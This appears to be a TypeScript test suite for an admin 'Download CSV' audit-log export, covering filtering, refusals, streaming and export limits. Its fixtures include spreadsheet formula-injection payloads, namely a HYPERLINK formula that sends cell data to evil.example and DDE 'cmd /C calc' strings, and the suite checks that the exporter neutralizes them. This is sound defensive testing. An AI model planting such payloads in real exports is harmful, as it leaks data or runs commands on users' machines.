import { afterEach, beforeAll, describe, expect, it, vi } from "vitest"
import db, { engine, type Prisma } from "db"
import { GET } from "app/admin/audit/export/route"
import { exportAuditCsv } from "app/admin/audit/exportResponse"
import { CSV_COLUMNS, auditCsvStream } from "app/audit/export"
import { EXPORT_BUSY_MESSAGE, runningExports } from "app/audit/exportSlots"
import { searchAuditEvents } from "app/audit/search"
import { log } from "app/core/log"
import { requestMetaFromHeaders, runWithRequestMeta } from "app/core/requestContext"
import { recordAuditEvent, type AuditEntry } from "app/audit/log"
import { TestBrowser } from "test/helpers/browser"
import { csvObjects } from "test/helpers/csv"
import { PASSWORD, createOrganization, createUser } from "test/helpers/fixtures"

/**
 * "Download CSV" (GET /admin/audit/export): the real route handler with real Blitz sessions,
 * exactly the filtered rows, formula cells neutralized, refusals, and a stream that delivers
 * rows while the database is still being read.
 */

const HEADER = [
  "id",
  "at",
  "action",
  "admin_id",
  "admin_email",
  "user_id",
  "user_email",
  "organization_id",
  "organization",
  "impersonation_id",
  "reason",
  "ticket_url",
  "end_reason",
  "ended_by_id",
  "ended_by_email",
  "refusal_code",
  "ip",
  "user_agent",
]

const HOSTILE_REASONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\uFF1DHYPERLINK(1)", // a full-width equals sign, which spreadsheets also read as a formula
  'A reason with "quotes", commas\nand a line break',
]

let org: { id: number; name: string }
let otherOrg: { id: number; name: string }
let superadmin: { id: number; email: string }
let owner: { id: number; email: string }
let member: { id: number; email: string }
let plain: { id: number; email: string }
let bulkActor: { id: number; email: string }
let support: { id: number; email: string }
const browsers: Record<string, TestBrowser> = {}

async function record(entries: Array<Omit<AuditEntry, "impersonationId">>) {
  await db.$transaction(
    async (tx) => {
      for (const entry of entries) await recordAuditEvent(tx, { impersonationId: null, ...entry })
    },
    { timeout: 120_000 },
  )
}

function exportRequest(query: string, browser?: TestBrowser) {
  return GET(request(query, browser))
}

function request(query: string, browser?: TestBrowser) {
  const headers = new Headers()
  if (browser) headers.set("cookie", browser.cookieHeader())
  return new Request(`http://localhost/admin/audit/export${query}`, { headers })
}

async function expectedIds(where: Prisma.AuditEventWhereInput) {
  const rows = await db.auditEvent.findMany({
    where,
    orderBy: { id: "desc" },
    select: { id: true },
  })
  return rows.map((row) => String(row.id))
}

type LogLine = { level: number; msg: string; err?: { stack?: string } }

/** The log lines written while `run` runs, at info and above (the tests run at warn). */
async function captureLog(run: () => Promise<void>): Promise<{ lines: LogLine[]; text: string }> {
  const written: string[] = []
  log.level = "info"
  vi.spyOn(process.stdout, "write").mockImplementation(
    (chunk) => (written.push(String(chunk)), true),
  )
  try {
    await run()
  } finally {
    vi.restoreAllMocks()
    log.level = process.env.LOG_LEVEL ?? "info"
  }
  const text = written.join("")
  const lines = text
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as LogLine)
  return { lines, text }
}

/** Backends of the PostgreSQL export's own connection (none on the embedded engine). */
async function exportBackends() {
  if (engine.kind !== "postgres") return []
  return db.$queryRaw<Array<{ state: string; query: string }>>`
    SELECT state, query FROM pg_stat_activity WHERE application_name = 'audit-csv-export'`
}

beforeAll(async () => {
  org = await createOrganization("export-org")
  otherOrg = await createOrganization("export-other")
  superadmin = await createUser({ label: "export-superadmin", role: "SUPERADMIN" })
  owner = await createUser({ label: "export-owner", organization: { id: org.id, role: "OWNER" } })
  member = await createUser({
    label: "export-member",
    organization: { id: org.id, role: "MEMBER" },
  })
  plain = await createUser({ label: "export-plain" })
  bulkActor = await createUser({ label: "export-bulk", role: "SUPPORT" })
  support = await createUser({ label: "export-support", role: "SUPPORT" })
  const inOrg = (reason: string, action: AuditEntry["action"] = "IMPERSONATION_STARTED") => ({
    action,
    actorId: owner.id,
    subjectId: member.id,
    organizationId: org.id,
    details: { reason, ticketUrl: "https://support.example.com/tickets/1" },
  })
  await record([
    ...HOSTILE_REASONS.map((reason) => inOrg(reason)),
    inOrg("Ordinary reason", "IMPERSONATION_ENDED"),
    { ...inOrg("Elsewhere"), organizationId: otherOrg.id },
    { ...inOrg("Platform"), organizationId: null },
  ])
  // 1,200 events of one admin: more than one export batch, for the streaming tests.
  await record(
    Array.from({ length: 1200 }, (_, i) => ({
      action: "SIGNED_IN" as const,
      actorId: bulkActor.id,
      subjectId: bulkActor.id,
      organizationId: null,
      details: { method: "PASSWORD", n: i },
    })),
  )
  for (const [name, user] of Object.entries({ superadmin, owner, plain, support })) {
    browsers[name] = new TestBrowser()
    await browsers[name].login(user.email, PASSWORD)
  }
})

afterEach(async () => {
  // No export may leave its connection (and transaction) behind, nor its slot.
  await expect.poll(exportBackends, { timeout: 5000 }).toEqual([])
  expect(runningExports()).toBe(0)
})

describe("Download CSV", () => {
  it("streams exactly the filtered rows, all pages, with a header", async () => {
    const response = await exportRequest(
      `?organization=${encodeURIComponent(org.name)}&action=IMPERSONATION_STARTED`,
      browsers.superadmin,
    )
    expect(response.status).toBe(200)
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8")
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="audit-events-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const { header, rows } = csvObjects(await response.text())
    expect(header).toEqual(HEADER)
    expect(CSV_COLUMNS.map(([name]) => name)).toEqual(HEADER)
    expect(rows.map((row) => row.id)).toEqual(
      await expectedIds({ organizationId: org.id, action: "IMPERSONATION_STARTED" }),
    )
    expect(rows).toHaveLength(HOSTILE_REASONS.length)
    const first = rows.at(-1)!
    expect(first).toMatchObject({
      action: "IMPERSONATION_STARTED",
      admin_id: String(owner.id),
      admin_email: owner.email,
      user_email: member.email,
      organization: org.name,
      ticket_url: "https://support.example.com/tickets/1",
    })
    expect(new Date(first.at!).toISOString()).toBe(first.at)
  })

  it("neutralizes spreadsheet formulas and keeps quotes, commas and line breaks", async () => {
    const response = await exportRequest(
      `?organization=${org.id}&action=IMPERSONATION_STARTED`,
      browsers.superadmin,
    )
    const { rows } = csvObjects(await response.text())
    const reasons = rows.map((row) => row.reason).reverse()
    expect(reasons).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'\t=1+1",
      "'\uFF1DHYPERLINK(1)",
      'A reason with "quotes", commas\nand a line break',
    ])
    for (const row of rows)
      expect(Object.values(row).every((cell) => !/^[=+\-@]/.test(cell))).toBe(true)
  })

  it("gives an organization admin their organization's rows only", async () => {
    const response = await exportRequest("", browsers.owner)
    expect(response.status).toBe(200)
    const { rows } = csvObjects(await response.text())
    expect(rows.map((row) => row.id)).toEqual(await expectedIds({ organizationId: org.id }))
    expect(new Set(rows.map((row) => row.organization))).toEqual(new Set([org.name]))
  })

  it("gives a header and no rows when nothing matches", async () => {
    const response = await exportRequest(
      "?admin=nobody-here%40fixture.example",
      browsers.superadmin,
    )
    expect(response.status).toBe(200)
    expect(await response.text()).toBe(`${HEADER.join(",")}\n`)
  })

  it("exports more than one batch, every row once", async () => {
    const response = await exportRequest(`?admin=${bulkActor.id}`, browsers.superadmin)
    const { rows } = csvObjects(await response.text())
    expect(rows).toHaveLength(1200)
    expect(rows.map((row) => row.id)).toEqual(await expectedIds({ actorId: bulkActor.id }))
  })
})

describe("refusals", () => {
  it("401 without a session", async () => {
    const response = await exportRequest("")
    expect(response.status).toBe(401)
    expect(await response.text()).toMatch(/Sign in/)
  })

  it("403 for a user without the admin console", async () => {
    const response = await exportRequest("", browsers.plain)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/You do not have access to the admin console/)
  })

  it("403 for an organization admin asking for another organization", async () => {
    const response = await exportRequest(`?organization=${otherOrg.id}`, browsers.owner)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/organizations you administer/)
  })

  it("400 with the reason for a bad filter", async () => {
    const response = await exportRequest("?action=EVERYTHING&from=2026-13-01", browsers.superadmin)
    expect(response.status).toBe(400)
    const text = await response.text()
    expect(text).toMatch(/Action: choose one of the listed actions/)
    expect(text).toMatch(/From: not a calendar date/)
  })

  it("403 while impersonating, and the admin's own session works again after Stop", async () => {
    const admin = new TestBrowser()
    await admin.login(superadmin.email, PASSWORD)
    const started = await admin.rpc("impersonateUser", { userId: plain.id, reason: "Export check" })
    expect(started.error).toBeNull()
    const response = await exportRequest("", admin)
    expect(response.status).toBe(403)
    expect(await response.text()).toMatch(/not available while impersonating/)
    expect((await admin.rpc("stopImpersonating", {})).error).toBeNull()
    const again = await exportRequest(`?admin=${bulkActor.id}&to=2000-01-01`, admin)
    expect(again.status).toBe(200)
    await again.text()
  })
})

describe("streaming", () => {
  it("delivers the first rows while later batches are still unread in the database", async () => {
    const batches: number[] = []
    const stream = auditCsvStream(
      { actorId: bulkActor.id },
      { wholePlatform: true },
      {
        batchSize: 100,
        onBatch: (rows) => batches.push(rows),
      },
    )
    const reader = stream.getReader()
    const first = await reader.read()
    const text = new TextDecoder().decode(first.value)
    const { header, rows } = csvObjects(text)
    expect(header).toEqual(HEADER)
    expect(rows).toHaveLength(100)
    expect(batches).toEqual([100]) // one read from the database; 11 batches still there
    if (engine.kind === "postgres") {
      // The server-side cursor is open, its transaction waiting for the next FETCH.
      expect(await exportBackends()).toEqual([
        { state: "idle in transaction", query: "FETCH 100 FROM audit_export" },
      ])
    }
    let total = rows.length
    for (;;) {
      const next = await reader.read()
      if (next.done) break
      total += csvObjects(`${HEADER.join(",")}\n${new TextDecoder().decode(next.value)}`).rows
        .length
    }
    expect(total).toBe(1200)
    // Twelve full batches, then (on PostgreSQL) one more FETCH finds the cursor's end.
    expect(batches.filter((rows) => rows > 0)).toEqual(Array(12).fill(100))
  })

  it("lets go of the database when the download is cancelled", async () => {
    const response = await exportRequest(`?admin=${bulkActor.id}`, browsers.superadmin)
    const reader = response.body!.getReader()
    const first = await reader.read()
    expect(first.done).toBe(false)
    if (engine.kind === "postgres") expect(await exportBackends()).toHaveLength(1)
    await reader.cancel()
    // afterEach: the export's connection is gone.
  })
})

describe("limits", () => {
  it("runs at most one export per user and two in all, and frees the slot when one is cancelled", async () => {
    // Batches of 2 rows: the owner's organization has more, so the download is still open.
    const held = await exportAuditCsv(request("", browsers.owner), { batchSize: 2 })
    expect(held.status).toBe(200)
    const heldReader = held.body!.getReader()
    expect((await heldReader.read()).done).toBe(false)

    const sameUser = await exportRequest("", browsers.owner)
    expect(sameUser.status).toBe(429)
    expect(sameUser.headers.get("content-type")).toBe("text/plain; charset=utf-8")
    expect(await sameUser.text()).toBe(`${EXPORT_BUSY_MESSAGE}\n`)

    const second = await exportRequest(`?admin=${bulkActor.id}`, browsers.superadmin)
    expect(second.status).toBe(200)
    const secondReader = second.body!.getReader()
    expect((await secondReader.read()).done).toBe(false)
    if (engine.kind === "postgres") expect(await exportBackends()).toHaveLength(2)

    const third = await exportRequest("", browsers.support)
    expect(third.status).toBe(429)
    expect(await third.text()).toMatch(/Another export is running; try again when it has finished/)

    await heldReader.cancel()
    expect(runningExports()).toBe(1)
    const afterCancel = await exportRequest("", browsers.owner)
    expect(afterCancel.status).toBe(200)
    await afterCancel.text() // read to its end: that frees the slot too
    expect(runningExports()).toBe(1)
    await secondReader.cancel()
  })

  it("frees the slot when the export fails, and logs the fault at error", async () => {
    const { lines } = await captureLog(async () => {
      const failing = await exportAuditCsv(request(`?admin=${bulkActor.id}`, browsers.owner), {
        onBatch: () => {
          throw new Error("database went away")
        },
      })
      expect(failing.status).toBe(200)
      await expect(failing.text()).rejects.toThrow(/database went away/)
    })
    const failed = lines.filter((line) => line.msg === "Audit CSV export failed")
    expect(failed).toHaveLength(1)
    expect(failed[0]!.level).toBe(50)
    expect(failed[0]!.err?.stack).toMatch(/Error: database went away\n\s+at /)
    expect(runningExports()).toBe(0)
    const next = await exportRequest("", browsers.owner)
    expect(next.status).toBe(200)
    await next.text()
  })

  it("ends an export that outlives its time limit and closes its connection", async () => {
    const finished = vi.fn()
    const slow = await exportAuditCsv(request(`?admin=${bulkActor.id}`, browsers.superadmin), {
      batchSize: 100,
      timeLimitMs: 400,
      onFinish: finished,
    })
    const reader = slow.body!.getReader()
    expect((await reader.read()).done).toBe(false)
    if (engine.kind === "postgres") expect(await exportBackends()).toHaveLength(1)
    await new Promise((resolve) => setTimeout(resolve, 700)) // a reader too slow to ask for more
    await expect(reader.read()).rejects.toThrow(/time limit/)
    expect(finished).toHaveBeenCalledTimes(1)
    expect(runningExports()).toBe(0)
    // afterEach: the export's connection is gone.
  })
})

describe("a cancelled download", () => {
  it("is logged at info without a stack, not as a failure", async () => {
    const { lines, text } = await captureLog(async () => {
      const batches: number[] = []
      const pending: { current?: ReadableStreamDefaultReader<Uint8Array> } = {}
      const response = await exportAuditCsv(
        request(`?admin=${bulkActor.id}`, browsers.superadmin),
        {
          batchSize: 100,
          onBatch: (rows) => {
            batches.push(rows)
            // The client goes away while the second batch is being read from the database.
            if (batches.length === 2) void pending.current!.cancel()
          },
        },
      )
      const reader = (pending.current = response.body!.getReader())
      expect((await reader.read()).done).toBe(false)
      expect((await reader.read()).done).toBe(true)
      expect(batches).toEqual([100, 100])
      await new Promise((resolve) => setTimeout(resolve, 100)) // the batch that nobody takes
    })
    expect(lines.filter((line) => line.level >= 40)).toEqual([])
    expect(lines.map((line) => line.msg)).toContain("Audit CSV export cancelled by the client")
    expect(text).not.toMatch(/stack|Controller is already closed/)
  })
})

describe("dates at the edges", () => {
  it.each([
    ["?to=9999-12-31", "To: give a date from 1970-01-01 to 9998-12-31"],
    ["?from=9999-01-01", "From: give a date from 1970-01-01 to 9998-12-31"],
    ["?from=1969-12-31", "From: give a date from 1970-01-01 to 9998-12-31"],
    ["?to=1969-12-31", "To: give a date from 1970-01-01 to 9998-12-31"],
  ])("%s: 400 with the range", async (query, message) => {
    const response = await exportRequest(query, browsers.superadmin)
    expect(response.status).toBe(400)
    expect(await response.text()).toBe(`${message}\n`)
  })

  it("accepts 1970-01-01 and 9998-12-31 themselves", async () => {
    const response = await exportRequest(
      `?admin=${bulkActor.id}&from=1970-01-01&to=9998-12-31`,
      browsers.superadmin,
    )
    expect(response.status).toBe(200)
    expect(csvObjects(await response.text()).rows).toHaveLength(1200)
    const last = await exportRequest(
      `?admin=${bulkActor.id}&from=9998-12-31&to=9998-12-31`,
      browsers.superadmin,
    )
    expect(last.status).toBe(200)
    expect(csvObjects(await last.text()).rows).toHaveLength(0)
  })
})

describe("organization names", () => {
  it("match whatever the letter case", async () => {
    for (const name of [
      org.name.toUpperCase(),
      org.name.toLowerCase(),
      ` ${org.name.toUpperCase()} `,
    ]) {
      const response = await exportRequest(
        `?organization=${encodeURIComponent(name)}`,
        browsers.owner,
      )
      expect(response.status).toBe(200)
      const { rows } = csvObjects(await response.text())
      expect(rows.map((row) => row.id)).toEqual(await expectedIds({ organizationId: org.id }))
    }
    const other = await exportRequest(
      `?organization=${encodeURIComponent(otherOrg.name.toUpperCase())}`,
      browsers.owner,
    )
    expect(other.status).toBe(403)
  })
})

describe("who made the request", () => {
  const STAFF = { ip: "203.0.113.7", userAgent: "staff-laptop/1.0" }
  let ids: { byStaff: number; byActor: number; expired: number }

  beforeAll(async () => {
    const meta = { ...requestMetaFromHeaders(new Headers()), ...STAFF }
    const ended = (endedById: number | null, reason: string) => ({
      action: "IMPERSONATION_ENDED" as const,
      actorId: owner.id,
      subjectId: member.id,
      organizationId: org.id,
      details: {
        endReason: endedById === owner.id ? "STOPPED" : "ENDED_BY_ADMIN",
        endedById,
        reason,
      },
    })
    await runWithRequestMeta(meta, () =>
      record([
        ended(superadmin.id, "who-ip staff"),
        ended(owner.id, "who-ip actor"),
        ended(null, "who-ip expired"),
      ]),
    )
    const rows = await db.auditEvent.findMany({
      where: { details: { path: ["reason"], string_starts_with: "who-ip " } },
      select: { id: true, details: true },
    })
    const id = (reason: string) =>
      rows.find((row) => (row.details as { reason: string }).reason === reason)!.id
    ids = {
      byStaff: id("who-ip staff"),
      byActor: id("who-ip actor"),
      expired: id("who-ip expired"),
    }
  })

  async function csvRows(browser: TestBrowser | undefined) {
    const response = await exportRequest(
      `?organization=${org.id}&action=IMPERSONATION_ENDED`,
      browser,
    )
    expect(response.status).toBe(200)
    return new Map(csvObjects(await response.text()).rows.map((row) => [Number(row.id), row]))
  }

  it("an organization admin sees who ended it, but not the staff member's IP or browser", async () => {
    const rows = await csvRows(browsers.owner)
    expect(rows.get(ids.byStaff)).toMatchObject({
      ended_by_id: String(superadmin.id),
      ended_by_email: superadmin.email,
      ip: "",
      user_agent: "",
    })
    expect(rows.get(ids.byActor)).toMatchObject({
      ended_by_email: owner.email,
      ip: STAFF.ip,
      user_agent: STAFF.userAgent,
    })
    expect(rows.get(ids.expired)).toMatchObject({ ended_by_id: "", ip: STAFF.ip })
    // The page reads the same query.
    const page = await searchAuditEvents(
      { organizationId: org.id, action: "IMPERSONATION_ENDED" },
      { wholePlatform: false, organizationIds: [org.id] },
      { pageSize: 100 },
    )
    expect(page.events.find((event) => event.id === ids.byStaff)).toMatchObject({
      endedById: superadmin.id,
      endedByEmail: superadmin.email,
      ip: null,
      userAgent: null,
    })
  })

  it("platform staff see every IP and user agent", async () => {
    const rows = await csvRows(browsers.superadmin)
    expect(rows.get(ids.byStaff)).toMatchObject({
      ended_by_email: superadmin.email,
      ip: STAFF.ip,
      user_agent: STAFF.userAgent,
    })
  })
})
